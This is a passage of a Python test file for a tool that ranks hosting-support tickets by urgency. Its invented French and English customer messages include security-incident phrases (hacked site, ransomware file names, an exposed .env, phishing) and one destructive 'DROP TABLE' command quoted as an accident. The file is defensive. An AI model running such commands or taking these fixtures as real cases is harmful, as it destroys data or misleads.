    text = ("Merci beaucoup ! Je suis absente jusqu'à mardi (un peu de repos pour le pont), je regarderai ça à mon "
            "retour. Bon pont à vous aussi !")
    story = [customer(at(0)), us(at(0, 40)), Event(at(1), "message", "in", "Jean", text, "email")]
    h = heat(story, at(3))
    assert "automatic" not in terms(h).get("not counted", "")
    assert terms(h)["cooling"] == "their move: they said 'je regarderai', 'à mardi'"


def test_what_was_set_aside_is_in_the_explanation_at_zero_points():
    log = "\n".join(f"2026-11-24 04:{i:02d}:09 0 [ERROR] INNODB: WRITE FAILED AT OFFSET {i}" for i in range(40))
    body = f"Le site répond mal, voici le journal :\n{log}\n\nPouvez-vous regarder ?\n\nOlivier\nRésa & Co"
    h = heat([Event(at(0), "message", "in", "Olivier", body, "email")], at(1))
    note = next(t for t in h.terms if t.name == "not counted")
    assert note.value == "40 lines of pasted log or code and 2 signature lines not read" and note.points == 0
    assert "words" not in terms(h)  # no SHOUTING from the log's capitals


def test_our_mood_decays_only_when_we_really_answer():
    angry = "C'est inadmissible, toujours pas de certificat !!!"
    waiting = fold_events([customer(at(0), angry), customer(at(1), "Any news?")])
    answered = fold_events([customer(at(0), angry), us(at(0, 30)), customer(at(1), "Any news?")])
    assert waiting.words > answered.words > 0


def test_a_customer_saying_it_is_not_pressing_cools_their_case_until_they_write_again():
    calm = [customer(at(0), "Product pages take a few seconds to load. No rush, whenever you get a chance.")]
    plain = [customer(at(0), "Product pages take a few seconds to load. Could you have a look?")]
    h = heat(calm, at(2))
    assert terms(h)["calm"] == "said it is not pressing: 'no rush', 'whenever you get a chance'"
    assert h.score < heat(plain, at(2)).score
    again = [*calm, customer(at(3), "Any news? It is getting slower.")]
    assert "calm" not in terms(heat(again, at(4)))


@pytest.mark.parametrize("parking, said", [
    ("Refund queued by accounts for 31/05. Nothing more to do on our side.", "'nothing more to do'"),
    ("Duplicate of #58840, which I'm handling. Merging into it.", "'duplicate of'"),
    ("Relancé Romain (commercial) : il appelle M. Perrin lundi matin. Rien de technique dans ce dossier.",
     "'rien de technique'"),
    ("RDV lundi 15/03 10h mis dans l'agenda partagé. Rien à faire d'ici là.", "'rien a faire'"),
    ("Résolu au téléphone : c'était le mot de passe FTP. À fermer demain.", "'resolu'"),
    ("Customer's own plugin, they rolled it back. Leave open till Monday, then close.", "'then close'"),
])
def test_an_engineer_s_note_that_nothing_is_for_us_to_do_parks_the_case_until_anyone_writes(parking, said):
    angry = [customer(at(0), "Vos nouveaux tarifs sont INADMISSIBLES, je veux une explication !!!")]
    parked = [*angry, note(at(0, 30), parking)]
    h = heat(parked, at(6))
    assert terms(h)["cooling"] == f"parked: an engineer noted {said}"
    assert h.score < heat(angry, at(6)).score
    # The customer writing again is a new round the note did not see.
    again = [*parked, customer(at(7), "Toujours rien ? J'attends une réponse.")]
    assert "cooling" not in terms(heat(again, at(8)))
    assert heat(again, at(8)).score > heat(parked, at(8)).score


@pytest.mark.parametrize("text", ["Vu : le disque est plein, il faut agir vite.",
                                  "Pas encore résolu : le disque se remplit de nouveau, à surveiller.",
                                  "Not resolved, the 502s are back after the restart."])
def test_a_note_telling_what_is_broken_parks_nothing(text):
    down = [customer(at(0), "Le site est en panne depuis ce matin."), note(at(0, 10), text)]
    assert "cooling" not in terms(heat(down, at(1)))


def test_calm_words_beside_a_complaint_are_no_calm():
    h = heat([customer(at(0), "Pas urgent pour vous peut-être, mais le site est en panne depuis ce matin.")], at(1))
    assert "calm" not in terms(h) and "words" in terms(h)


def test_the_lexicon_knows_calm_words_mask_frustration():
    assert "critical" in [p.text for p in LEXICON.match("Not critical for us today")]
    stats = fold_events([customer(at(0), "Not critical for us today, but worth a look.")])
    assert stats.words == 0


# --- an outage outranks a chore; a calm customer's wait counts less; an informed customer ------------

def test_a_customer_saying_their_site_is_down_outranks_a_calm_chore_that_has_waited_much_longer():
    outage = [customer(at(0), "Le site du restaurant ne s'affiche plus du tout, « Ce site est inaccessible ». "
                              "Toutes nos réservations passent par là.")]
    chore = [customer(at(-18), "Hi, could you add an SFTP user for our designer? No rush at all.")]
    hot, calm = heat(outage, at(0, 25)), heat(chore, at(0, 25))
    assert hot.score > calm.score
    assert terms(hot)["down"] == "said it is down: 'inaccessible', 'ne s'affiche plus'"
    assert terms(calm)["calm"] == "said it is not pressing: 'no rush'"


LOUD_CHORE = [customer(at(-7 * 24), "Bonjour, pouvez-vous m'envoyer le devis pour la refonte ? Merci."),
              customer(at(-5 * 24), "Je relance : toujours pas de devis. C'est inadmissible !!!"),
              customer(at(-2 * 24), "TROISIÈME RELANCE. AUCUNE RÉPONSE. JE VAIS CHANGER D'HÉBERGEUR !!!")]


#: Since the wait was refitted (18 points, not 36), a loud week-old chore scores below the shipped cap (70): the
#: cap is tried at 40, where it bites.
CAPPED = replace(WEIGHTS, chore_cap=40.0)


def test_a_chore_is_held_at_the_chore_cap_and_an_hour_old_outage_outranks_it():
    """Nothing said broken, at risk or slow: a week of waiting and shouting stops at `chore_cap`."""
    held = heat(LOUD_CHORE, at(0), tier="critical", weights=CAPPED)
    assert held.score == 40 and terms(held)["held"] == "nothing said broken, at risk or slow: held at 40"
    chore = heat(LOUD_CHORE, at(0), tier="critical")
    outage = heat([customer(at(-1), "Bonjour, le site de la boutique ne s'affiche plus depuis une heure.")], at(0))
    assert held.score < chore.score <= WEIGHTS.chore_cap < outage.score


LOUD_TECHNICAL_CHORE = [customer(at(-7 * 24), "Bonjour, pouvez-vous créer l'alias compta@ vers paul@ ? Merci."),
                        customer(at(-5 * 24), "Je relance : toujours pas d'alias. C'est inadmissible !!!"),
                        customer(at(-2 * 24), "TROISIÈME RELANCE. AUCUNE RÉPONSE. JE VAIS CHANGER D'HÉBERGEUR !!!")]


@pytest.mark.parametrize("chore, more, kw", [
    # A deadline, an open incident, a promise of ours that lapsed: each is more than a chore. (A quote's
    # deadline is the sales team's: see test_a_commercial_matters_deadline_is_the_sales_teams_not_the_on_calls.)
    (LOUD_TECHNICAL_CHORE, customer(at(-1), "Il nous faut l'alias avant demain 9h pour l'arrivée de la comptable."),
     {}),
    (LOUD_CHORE, None, {"incident_open": True}),
    (LOUD_CHORE, us(at(-2), "Je vous envoie le devis dans une heure."), {}),
])
def test_a_chore_with_a_deadline_an_incident_or_a_missed_promise_is_not_held(chore, more, kw):
    story = chore + ([more] if more else [])
    # Read at 4 h: the promised quote is 5 h late.
    h = heat(story, at(4), tier="critical", weights=CAPPED, **kw)
    assert "held" not in terms(h) and h.score > CAPPED.chore_cap


@pytest.mark.parametrize("text, said", [
    ("Hi, since this morning every order stays in 'Pending payment' although Stripe shows them paid.",
     "'pending payment'"),
    ("Every time someone tries to book a class the last step fails. No booking goes through.",
     "'no booking goes through'"),
    ("Bonjour, nos clients ne peuvent plus commander sur la boutique depuis 7h.", "'ne peuvent plus commander'"),
    ("Le formulaire de don renvoie une erreur 403 depuis votre maintenance.", "'erreur 403', 'renvoie une erreur'"),
    # A thank-you for the fix that goes on with what is still broken is an outage, not a closing.
    ("Merci pour votre aide, le webmail fonctionne ! Mais le mail ne part toujours pas depuis Thunderbird.",
     "'ne part toujours pas'"),
    ("Thanks, the site is back. However since the restore customers aren't getting their order emails.",
     "'aren't getting their'"),
    ("Depuis ce matin le site affiche autre chose. Notre back-office n'est plus accessible non plus.",
     "'n'est plus accessible'"),
    ("Le formulaire d'inscription à la cantine ne s'envoie plus : le bouton « Envoyer » tourne dans le vide.",
     "'ne s'envoie plus'"),
    # A site shown as suspended is off for its visitors, whoever is right about the payment.
    ("Mon site affiche « Ce service a été suspendu. Contactez votre hébergeur. » Pourtant j'ai bien été prélevée.",
     "'service a été suspendu'"),
    ("Hi, our site has been suspended this morning although the invoice was paid.", "'site has been suspended'"),
    ('Good morning, our website shows "Account suspended" since 7am, the transfer went out on Monday.',
     "'account suspended'"),
    # Said again after our answer, in words of its own: still failing.
    ("Thirty minutes on, card payments are still failing. Please.", "'still failing'"),
    # Every one of what their customers do there fails, whatever the log says why.
    ("Since 7am every payment on our booking site fails: cURL error 60 in our log.",
     "'every payment on our booking site fails'"),
    ("Bonjour, toutes les commandes échouent depuis la mise à jour.", "'toutes les commandes echouent'"),
    # What the site makes every night was not made; the database takes nothing any more.
    ("Le bon de préparation de la tournée n'a pas été créé ce matin, le dernier date d'hier.", "'n'a pas été créé'"),
    ("Hi, the nightly stock export wasn't generated, the warehouse starts at six.", "'wasn't generated'"),
    ("Notre base est passée en lecture seule vers 16h, plus aucune réservation n'est prise.",
     "'aucune réservation', 'est passée en lecture seule'"),
    # A service that will not come back up.
    ("Our database server rebooted after the update and MySQL won't start, the till app is stuck.", "'won't start'"),
    ("Depuis la coupure de cette nuit, PostgreSQL ne redémarre plus sur le serveur de la mutuelle.",
     "'ne redémarre plus'"),
    # A server that does not come back after a reboot, said plainly (the console lines are set aside as a log).
    ("Got an email at midnight saying you had rebooted my managed VPS. Since then it hasn't come back. That VPS "
     "runs the booking system for our three holiday parks. Please help.", "'it hasn't come back'"),
    ("Bonjour, le serveur a été redémarré cette nuit pour la mise à jour et ne boote plus depuis : la "
     "fromagerie n'a plus de boutique.", "'ne boote plus'"),
    # Said in two letters.
    ("Bonjour, en nettoyant les zones du panneau j'ai supprimé celle de boulangerie-pichon.fr : site et mails du "
     "client sont KO. Pouvez-vous la restaurer ?", "'sont ko'"),
    ("Le serveur de la médiathèque est HS depuis 7h.", "'est hs'"),
    # What connected to us no longer can.
    ("Notre logiciel de gestion du cabinet n'arrive plus à se connecter à la base depuis ce matin. Les premiers "
     "patients arrivent.", "'n'arrive plus à se connecter'"),
    ("Depuis la mise à jour, les commerciaux ne peuvent plus accéder au CRM.", "'ne peuvent plus accéder'"),
    ("Our till app can no longer connect to the database since 7am.", "'can no longer connect'"),
])
def test_a_business_that_cannot_work_reads_as_down(text, said):
    h = heat([customer(at(0), text)], at(1))
    assert terms(h)["down"] == f"said it is down: {said}"


@pytest.mark.parametrize("text, down", [("La clôture de caisse de la nuit n'a pas tourné, les ventes d'hier manquent.",
                                         "'n'a pas tourné'"),
                                        ("Hi, the stock export to the warehouse didn't run at 2am.", "'didn't run'")])
def test_a_scheduled_job_that_did_not_run_is_down_and_a_backup_that_did_not_is_at_risk(text, down):
    assert terms(heat([customer(at(0), text)], at(1)))["down"] == f"said it is down: {down}"
    backup = terms(heat([customer(at(0), "Hi, last night's backup didn't run, the log is empty.")], at(1)))
    assert "down" not in backup and backup["risk"] == "said data or security is at risk: 'backup didn't run'"


@pytest.mark.parametrize("text", ["Pourriez-vous créer un utilisateur MySQL en lecture seule pour notre stagiaire ?",
                                  "Could you give our auditor a read-only database user?"])
def test_asking_for_something_read_only_is_a_request_not_an_outage(text):
    assert "down" not in terms(heat([customer(at(0), text)], at(1)))


def test_the_outage_reported_an_hour_ago_outranks_a_routine_request_waiting_since_this_morning():
    outage = [customer(at(0), "Bonjour, notre site affiche une page blanche, les clients ne peuvent plus payer.")]
    routine = [customer(at(-5), "Hello, could you add a TXT record for Google Search Console? Thanks.")]
    assert heat(outage, at(1)).score > heat(routine, at(1)).score


def test_an_outage_an_hour_old_outranks_a_routine_request_that_has_waited_for_days():
    outage = [customer(at(0), "Bonjour, le site affiche « Erreur lors de la connexion à la base de données ».")]
    for days in (1, 2, 3, 4):
        routine = [customer(at(-24 * days), "Hello, could you add a TXT record for Google Search Console?"),
                   customer(at(-2), "Hi, just checking on the TXT record, any news?")]
        assert heat(outage, at(1)).score > heat(routine, at(1)).score, days
        # ... also when both are on the business tier (at down_floor 60 the four-day chore won).
        assert heat(outage, at(1), tier="business").score > heat(routine, at(1), tier="business").score, days


def test_outages_keep_their_order_below_the_cap():
    # The lift is in proportion to the rest of the heat: a longer, angrier outage stays above a fresh one.
    text = "Our shop is down, customers get a 502."
    scores = [heat([customer(at(0), text)], at(h)).score for h in (0.2, 1, 3, 8)]
    assert scores == sorted(scores) and len(set(scores)) == 4 and scores[-1] < 100
    angry = heat([customer(at(0), text), customer(at(0, 40), "STILL DOWN!!! This is unacceptable, we lose sales.")],
                 at(1))
    assert angry.score > heat([customer(at(0), text)], at(1)).score


def test_whenever_you_have_a_moment_is_not_pressing():
    h = heat([customer(at(0), "Hi, whenever you have a moment, could you add this SSH key for our developer?")],
             at(5))
    assert terms(h)["calm"] == "said it is not pressing: 'whenever you have a moment'"


def test_a_calm_customer_still_gets_hotter_as_they_wait():
    story = [customer(at(0), "Pour information, quand vous aurez un moment : un accès FTP de plus.")]
    scores = [heat(story, at(h)).score for h in (1, 4, 12, 24)]
    assert scores == sorted(scores) and scores[0] < scores[-1]


@pytest.mark.parametrize("text, said", [
    ("Bonjour, rien d'urgent, mais il y a sur mon FTP des fichiers que je n'ai pas mis (x.php) et une connexion "
     "cette nuit depuis l'étranger.", "'que je n'ai pas mis'"),
    ("Hello, two customers told us they could see other customers' orders in their account page.",
     "'other customers' orders'"),
    ("Bonjour, notre site a été piraté, il redirige vers un casino.", "'casino', 'piraté'"),
    ("Hi, no rush, but Google says our domain hosts a phishing page.", "'phishing'"),
    ("Petite question sans doute idiote : j'ai reçu ce matin un mail « Nouvelle connexion depuis un appareil "
     "inconnu (Lagos, Nigeria) ». Je n'ai jamais été au Nigeria.", "'connexion depuis un appareil inconnu'"),
    ("Quick question: we got a 'new sign-in from an unrecognised device' alert for our control panel.",
     "'new sign-in from', 'unrecognised device'"),
    # Someone else's personal data shown to visitors, mail sent in their name, a site sending visitors to a
    # gambling page, files renamed with a note in each folder: said as questions, at risk all the same.
    ("Quick one, probably nothing: our donation form shows someone else's name and address already filled in.",
     "'someone else's name'"),
    ("Good evening, a customer logging into her account on our shop sees another person's name, address and "
     "order history. What should we do?", "'another person's name'"),
    # A file of their customers anyone can fetch, a dismissed employee's access, data to get back before
    # the last backup rotates out, a password typed into a fake mail: asked calmly, at risk all the same.
    ("Bonjour, mon neveu dit qu'on peut télécharger un fichier backup_clients.sql sur notre site. C'est grave ?",
     "'on peut télécharger'"),
    ("Hi, we let our developer go this morning. Could you please remove all his access to the server?",
     "'remove all his access'"),
    ("No rush, but the events page is empty since Thursday. Is there any way to get last week's data back?",
     "'data back'"),
    ("Appel de Mme Brunet : a cliqué sur un mail au logo de la société et a saisi son identifiant et son mot de "
     "passe. Demande si c'est grave.", "'saisi son identifiant'"),
    ("Bonsoir, nous recevons des centaines de retours pour des mails que nous n'avons jamais envoyés.",
     "'que nous n'avons jamais envoyés'"),
    ("Bonsoir, depuis Google on arrive sur un site de paris en ligne avec des machines à sous. C'est normal ?",
     "'machines à sous', 'paris en ligne'"),
    ("Petite question : tous les fichiers finissent par .lockbit et il y a un LISEZMOI.txt dans chaque dossier.",
     "'lisezmoi', 'lockbit'"),
    # A mail in our name they doubt: someone is phishing our customers.
    ("Hi, I got the email below. It has your logo but the link goes to a site I don't recognise. My wife nearly "
     "paid it. Is it genuine?", "'is it genuine', 'link goes to a site', 'nearly paid it'"),
    ("Bonjour, ce mail de relance vient-il bien de vous ? Ma comptable a failli payer.",
     "'a failli payer', 'vient-il bien de vous'"),
    # A page that is not theirs on their own domain; half the catalogue gone.
    ("Bonjour, notre adresse ouvre maintenant une page de paiement qui n'est pas la nôtre.",
     "'qui n'est pas la nôtre'"),
    ("The import stopped halfway and the shop now has products missing from every category.", "'products missing'"),
    # Production with no copy left, orders paid for that never arrived, a mailing in a loop, ransomware's names.
    ("Since the network blip our primary runs without a replica; db1 itself serves traffic.", "'without a replica'"),
    # A cluster down to its last node: one more failure stops everything.
    ("Bonsoir, db2 et db3 sont sortis du cluster à 19h14, la prod tourne sur db1 seul. Merci d'intervenir.",
     "'sortis du cluster'"),
    ("Two of our three database nodes dropped out of the cluster overnight; we lost quorum.",
     "'dropped out of the cluster', 'lost quorum'"),
    ("Stripe a encaissé trois paiements, mais les commandes de cette nuit n'apparaissent pas dans le back-office.",
     "'n'apparaissent pas dans le back office'"),
    ("Nos abonnés reçoivent la newsletter en boucle depuis 6h, certains l'ont eue quinze fois.",
     "'newsletter en boucle'"),
    ("Sur le serveur, chaque document s'appelle maintenant facture.pdf.lockbit, on ne peut plus rien ouvrir.",
     "'lockbit'"),
    # Open to anyone; a mailing gone to everyone; someone else's data on their own site.
    ("A parent found our registration forms through a search engine, anyone can open them.", "'anyone can open'"),
    ("Our test mailing with a 90% code went to the whole customer list instead of the three of us.",
     "'whole customer list'"),
    ("Sur notre page Mon compte s'affiche parfois l'adresse d'un monsieur que je ne connais pas.",
     "'que je ne connais pas'"),
    # A login on their shop that nobody on their side made.
    ("Il y a un compte « webmaster2 » dans le back-office WordPress que personne chez nous n'a créé. Que faire ?",
     "'personne chez nous n'a créé'"),
    ("Also, about 40 new administrator users created overnight with random names? Should I delete them?",
     "'administrator users created'"),
    # A table dropped by mistake.
    ("Our developer accidentally ran DROP TABLE order_items on production at 14:00.", "'drop table'"),
    # Their secrets served to anyone: a .env shown in the browser, asked about as a rewrite question.
    ("Petite question sans urgence : https://www.mercier-outillage.fr/.env s'affiche dans le navigateur (avec nos "
     "identifiants de base). Comment définir la racine sur /public ?", "'env s'affiche'"),
    # A mailbox taken over: mails they did not write, a "new bank account" sent to their customers.
    ("Dans ses Éléments envoyés, des dizaines de mails qu'elle n'a pas écrits, avec un « nouveau RIB ».",
     "'n'a pas écrits', 'nouveau rib'"),
    # Files a migration left behind, while the old copy is about to go.
    ("After the migration /srv/www/uploads/2023 is empty on the new volume. Please make sure the old one is NOT "
     "wiped.", "'is empty on the new', 'not wiped'"),
    # Their business deleted, counted rather than named with "all our".
    ("Suite à un import CSV raté, 3 200 produits ont été supprimés de notre catalogue en production. Pouvez-vous "
     "restaurer les tables produits depuis la sauvegarde de 6h ?", "'3 200 produits ont ete supprimes'"),
    # A researcher's report they forward: their database dump and secrets downloadable by anyone.
    ("Hi, forwarding this, we don't know what to do.\n\n---------- Forwarded message ---------\nFrom: security "
     "researcher\nSubject: Responsible disclosure\n\nHello, the following files are publicly downloadable on your "
     "site: /.env (contains DB password) and /backup/db.sql.gz (41,000 customer records).", "'publicly downloadable', "
     "'responsible disclosure'"),
])
def test_data_or_security_at_risk_is_pressing_however_calmly_it_is_said(text, said):
    chore = [customer(at(-3), "Hi, could you add an SFTP user for our designer? Thanks.")]
    h = heat([customer(at(0), text)], at(1))
    assert terms(h)["risk"] == f"said data or security is at risk: {said}"
    assert "calm" not in terms(h)  # what is at stake beats how it is said
    assert h.score > heat(chore, at(1)).score


@pytest.mark.parametrize("text, said", [
    ("Hello, in the panel I noticed a yellow box:\n   Last successful backup: 14 Nov\n   Disk usage: 97%\n"
     "Is this something I should worry about?", "Disk usage: 97%"),
    ("Bonjour, le disque de la base est à 98 % et ça monte encore.", "disque de la base est à 98 %"),
    ("Bonjour, le quota de la boîte contact@ est à 100%, les clients reçoivent des erreurs.",
     "quota de la boîte contact@ est à 100%"),
])
def test_a_disk_or_quota_said_nine_tenths_full_counts_however_it_is_written(text, said):
    h = heat([customer(at(0), text)], at(1))
    assert terms(h).get("slow") == f"said it is slow or nearly full: '{said}'" or "down" in terms(h)
    assert h.score > heat([customer(at(0), "Bonjour, pouvez-vous ajouter un alias ?")], at(1)).score


@pytest.mark.parametrize("text", [
    "Le CPU est à 95 % depuis ce matin, est-ce normal ?",  # not a disk: nothing said full
    "Disk usage is at 45%, should we plan an upgrade next year?",
])
def test_a_percentage_that_is_not_a_full_disk_is_not_slow(text):
    assert "slow" not in terms(heat([customer(at(0), text)], at(1)))


@pytest.mark.parametrize("text, said", [
    ("Depuis 8h le site met 18 secondes à afficher les fiches produit, le back-office est inutilisable.",
     "'inutilisable', 'secondes à afficher'"),
    ("Checkout is very slow today, about 8 seconds per page, on our busiest week.",
     "'seconds per page', 'very slow'"),
    # A database replica falling behind its primary.
    ("Our read replica is now 50 minutes behind the primary, the stock pages read from it.", "'behind the primary'"),
    ("La réplique de la base a 2 h de retard sur le primaire depuis cette nuit.", "'de retard sur le primaire'"),
])
def test_a_slow_site_counts_and_less_than_a_site_that_is_down(text, said):
    slow = heat([customer(at(0), text)], at(1))
    down = heat([customer(at(0), "Le site est inaccessible depuis 8h, erreur 502.")], at(1))
    plain = heat([customer(at(0), "Hi, could you add an SFTP user for our designer? Thanks.")], at(1))
    assert terms(slow)["slow"] == f"said it is slow or nearly full: {said}"
    assert plain.score < slow.score < down.score


@pytest.mark.parametrize("text, copy, said", [
    ("Hi, staging.finlo.io has been returning 502 since this morning, our devs are blocked. Production is fine.",
     "staging", "'502'"),
    ("Bonjour, la préprod est plantée depuis la mise à jour, erreur 500 partout. Le site public n'est pas touché.",
     "preprod", "'erreur 500', 'plantée'"),
])
def test_an_outage_of_a_copy_that_is_not_the_production_counts_less_than_one_of_the_production(text, copy, said):
    staging = heat([customer(at(-3), text)], at(1), tier="critical")
    live = heat([customer(at(0), "Hello, our booking site shows a database error, nobody can book tonight.")], at(1))
    plain = heat([customer(at(0), "Hi, could you add an SFTP user for our designer? Thanks.")], at(1))
    assert terms(staging)["slow"] == f"said their {copy} is down, production is not: {said}"
    assert "down" not in terms(staging)
    assert plain.score < staging.score < live.score


@pytest.mark.parametrize("text", [
    "Staging and production are both down since the deploy, 502 everywhere.",
    # The day's takings, not the acceptance copy.
    "Le site est en panne depuis midi, on perd toute la recette du samedi !",
])
def test_an_outage_that_is_not_only_on_a_copy_stays_down(text):
    assert "down" in terms(heat([customer(at(0), text)], at(1)))


def test_a_site_said_to_be_slow_and_down_counts_as_down_once():
    h = heat([customer(at(0), "Le site rame depuis ce matin et maintenant il est inaccessible.")], at(1))
    assert "down" in terms(h) and "slow" not in terms(h)


@pytest.mark.parametrize("text", [
    "Pas urgent : en cherchant notre restaurant sur Google on voit des pages en japonais sur notre domaine.",
    "Just a question, not urgent: a file with our customer names and addresses is publicly accessible on the site.",
    "Désolé de vous déranger, il y a une règle de transfert qui envoie une copie de tous les mails de la direction "
    "vers une adresse que nous ne connaissons pas.",
    "Hi, when you get a chance: a member says our site has a fake login page pretending to be their bank.",
    # Their address serves another business's site: theirs may be serving their clients' pages elsewhere.
    "Odd one: when I go to www.kellsbakery.ie on my phone I see a website for a French chocolate shop instead of ours!",
    "Bonjour, depuis la migration, www.gite-des-saules.fr affiche le site d'une autre entreprise, un dentiste.",
    "Typing ashgrovekennels.co.uk in the browser brings up someone else's website, a garage in Leeds. Is ours gone?",
    "Quand on tape notre adresse on tombe sur un tout autre site, une agence immobilière de Tours.",
    # Their site or mailbox sends a flood: the shared relay's reputation goes with it.
    "Depuis ce midi je reçois des centaines de mails « Nouveau message depuis votre site » avec des liens bizarres.",
    "Is this serious? Since my out-of-office went on, my mailbox gets thousands of emails 'Automatic reply'.",
])
def test_someone_else_using_their_site_or_data_outranks_a_loud_complaint_with_nothing_broken(text):
    """A leak or a hijack said politely is worked on before an angry critical customer's paperwork."""
    at_risk = heat([customer(at(0), text)], at(2))
    loud = heat([customer(at(-24), "Bonjour, notre facture porte toujours l'ancienne raison sociale."),
                 us(at(-20), "Je transmets au service facturation."),
                 customer(at(-1), "C'EST INACCEPTABLE. Troisième demande pour une simple facture !!! "
                                  "Nous sommes client Critical, j'attends la correction aujourd'hui.")],
                at(2), tier="critical")
    assert "risk" in terms(at_risk) and "calm" not in terms(at_risk)
    assert at_risk.score > loud.score


@pytest.mark.parametrize("text", [
    "Hi,\n\nSince about 7:30 every page of our site shows:\n\n  Service Unavailable\n  The server is "
    "temporarily unable to service your request due to capacity problems.\n\nWe haven't changed anything.",
    "Bonjour,\n\nDepuis une heure toutes les pages affichent :\n\n  508 Resource Limit Is Reached\n  The website "
    "is temporarily unable to service your request as it exceeded resource limit.\n\nMerci",
    # The database refuses the site: every page is this warning, however many connections were asked for.
    "Bonjour,\n\nLe site du tournoi affiche depuis une heure :\n\n  Warning: mysqli_real_connect(): (HY000/1040): "
    "Too many connections\n\nLes inscriptions ferment ce soir.",
    # What the page shows when its code or its database fails, with no word of theirs saying it is broken.
    "Hi, I help out with the parish fundraiser. People giving online get this on the donation form:\n\n  Fatal "
    "error: Allowed memory size of 268435456 bytes exhausted (tried to allocate 65536 bytes) in /var/www/parish/"
    "wp-includes/plugin.php on line 484\n\nNo idea what it means, sorry for writing so late.\n\nMary",
    "hello our online order form says\n\nSQLSTATE[HY000]: General error: 1290 The MySQL server is running with "
    "the --read-only option so it cannot execute this statement\n\nfriday night is our busiest. cheers\nTom",
    "Bonsoir, le formulaire d'inscription au stage affiche ceci :\n\n  PHP Fatal error:  Uncaught Error: Call to "
    "undefined function mysql_connect() in /var/www/stage/inc/db.php:12\n\nJe ne sais pas ce que ça veut dire.\n"
    "Anne",
])
def test_a_site_down_said_by_the_error_page_they_pasted_reads_as_down(text):
    h = heat([customer(at(0), text)], at(1))
    assert "down" in terms(h)
    assert "words" not in terms(h)  # the pasted page is read for the symptom, never for tone


@pytest.mark.parametrize("text, quoted", [
    ("Bonjour,\n\nLe module de rendez-vous tourne dans le vide puis affiche « Une erreur est survenue, "
     "veuillez réessayer plus tard ». Pouvez-vous regarder ?", "Une erreur est survenue, veuillez réessayer plus tard"),
    ("Nobody in the office can open the shared drive this morning, the browser just says \"There has been a "
     "critical error on this website\" everywhere.", "There has been a critical error on this website"),
    ("Une cliente a vu un cadenas barré en commandant, sa photo dit NET::ERR_CERT_DATE_INVALID. C'est "
     "peut-être son ordinateur ?", "NET::ERR_CERT_DATE_INVALID"),
])
def test_an_error_message_they_quote_reads_as_down_in_whatever_words_they_use(text, quoted):
    h = heat([customer(at(0), text)], at(1))
    assert terms(h)["down"] == f"said it is down: '{quoted}'"
    routine = heat([customer(at(0), "Bonjour, pouvez-vous créer une boîte compta@ sur notre domaine ?")], at(5))
    assert h.score > routine.score  # an hour-old breakage before a routine request four hours older


@pytest.mark.parametrize("text", [
    "Your reply said 'clear your cache': I did, twice. Could someone look at the page layout?",
    "Le bouton « Valider » est un peu petit sur mobile, rien de grave.",
    # The error is in the quoted history of our own reply, not in what they wrote now.
    "Merci, je teste ce soir.\n\nLe lun. 23 nov. 2026 à 14:02, Support a écrit :\n> Le message « Erreur 500 » "
    "venait du cache.",
    # Their own script's output, pasted: not a page of their site, and they can run it again.
    "Mon script d'export affiche ce soir :\n\n  !!! ERREUR !!! CONNEXION SFTP REFUSEE PAR LE SERVEUR DISTANT\n"
    "  !!! ERREUR !!! EXPORT ANNULE\n\nJe le relancerai demain matin.",
])
def test_a_quote_without_an_error_or_inside_the_quoted_reply_is_not_down(text):
    assert "down" not in terms(heat([customer(at(0), text)], at(1)))


@pytest.mark.parametrize("text, said", [
    # A bounce forwarded below their own few words (the forwarded part is not read for words or tone).
    ("Bonjour,\n\nDeux clients me disent que leurs mails leur reviennent, je vous colle le message.\n\n"
     "---------- Message transféré ---------\nDe : Mail Delivery System <MAILER-DAEMON@mx.example>\n\n"
     "<compta@cabinet.example>: host mx1.hosting.example said:\n    550 5.1.1 <compta@cabinet.example>: Recipient "
     "address rejected: User unknown", "550 5.1.1 <compta@cabinet.example>: Recipient address"),
    ("Hi,\n\nNone of us in the office can send email since 8:15. Outlook says:\n\n  The server responded: 550 "
     "5.7.1 Sending suspended for this account\n\nReceiving seems fine.", "550 5.7.1 Sending suspended for this account"),
    ("One of the patients forwarded what she received:\n\n   552 5.2.2 <contact@dental.example>: Requested action "
     "aborted: exceeded storage allocation\n\nCan the messages be recovered?",
     "552 5.2.2 <contact@dental.example>: Requested action"),
])
def test_a_mail_server_refusal_they_forward_or_paste_reads_as_down(text, said):
    h = heat([customer(at(0), text)], at(1))
    assert terms(h)["down"].startswith(f"said it is down: '{said}")  # as written, cut to the explanation's room
    assert "words" not in terms(h) or "550" not in terms(h)["words"]


@pytest.mark.parametrize("text, down", [
    ("Hi,\n\nCustomers add things to the basket but the payment page just spins. We haven't had an order since "
     "about 7 this morning.", "haven't had an order since"),
    ("Bonjour, pas une seule réservation depuis la mise à jour de lundi, d'habitude on en a dix par jour.",
     "pas une seule reservation depuis"),
    ("Le VPN entre l'agence de Nantes et le siège est retombé cette nuit. Les collègues de Nantes n'ont plus accès "
     "à l'ERP depuis 8h40.", "est retombé', 'plus accès"),
    ("Our office IP is blocked again. Since yesterday lunchtime nobody in the office can reach webmail or the site "
     "admin.", "nobody in the office can reach webmail"),
    ("Bonjour, personne ici ne peut se connecter au VPN ce matin.", "personne ici ne peut se connecter au vpn ce matin"),
    ("Bonjour, la base de données est encore tombée ce matin. Vous deviez la migrer.", "encore tombée"),
    ("Le certificat de chauvin-transports.fr a de nouveau expiré cette nuit : les clients voient une alerte de "
     "sécurité.", "alerte de sécurité"),
    ("Troisième fois ce mois-ci que nos mails sont bloqués (« blocked using zen.spamhaus.org »).",
     "blocked using zen.spamhaus.org"),
    # Mail that comes back to whoever writes to them, in the words of the bounce they were told of.
    ("Un client m'a appelée : son mail de commande lui est revenu avec un message « boîte pleine ».",
     "boîte pleine', 'lui est revenu"),
    ("I have 23 'Undelivered Mail Returned to Sender' messages in our shop inbox, all order confirmations.",
     "returned to sender', 'undelivered"),
    # An HTTP status in the plural.
    ("We're seeing a few 504s on /checkout/payment since about 6am, maybe 1 request in 10.", "504"),
    ("Heads-up: elevated 5xx on the booking API since 14:10 UTC, roughly 4% of calls.", "5xx"),
    # Mail to them or from their shop that does not get through.
    ("Clients tell me the emails they send me come back saying the address doesn't exist.",
     "address doesn't exist"),
    ("Depuis minuit les clients ne reçoivent pas le mail de confirmation de commande.", "ne reçoivent pas"),
    # Their customers paying twice: their payment step is broken.
    ("Three of our subscribers were charged twice for the same box this morning, Stripe shows both payments.",
     "subscribers were charged twice"),
    ("Plusieurs acheteurs nous écrivent : leur carte a été débitée deux fois pour la même commande.",
     "acheteurs nous ecrivent : leur carte a ete debitee deux fois"),
    # What their site produced no longer comes out.
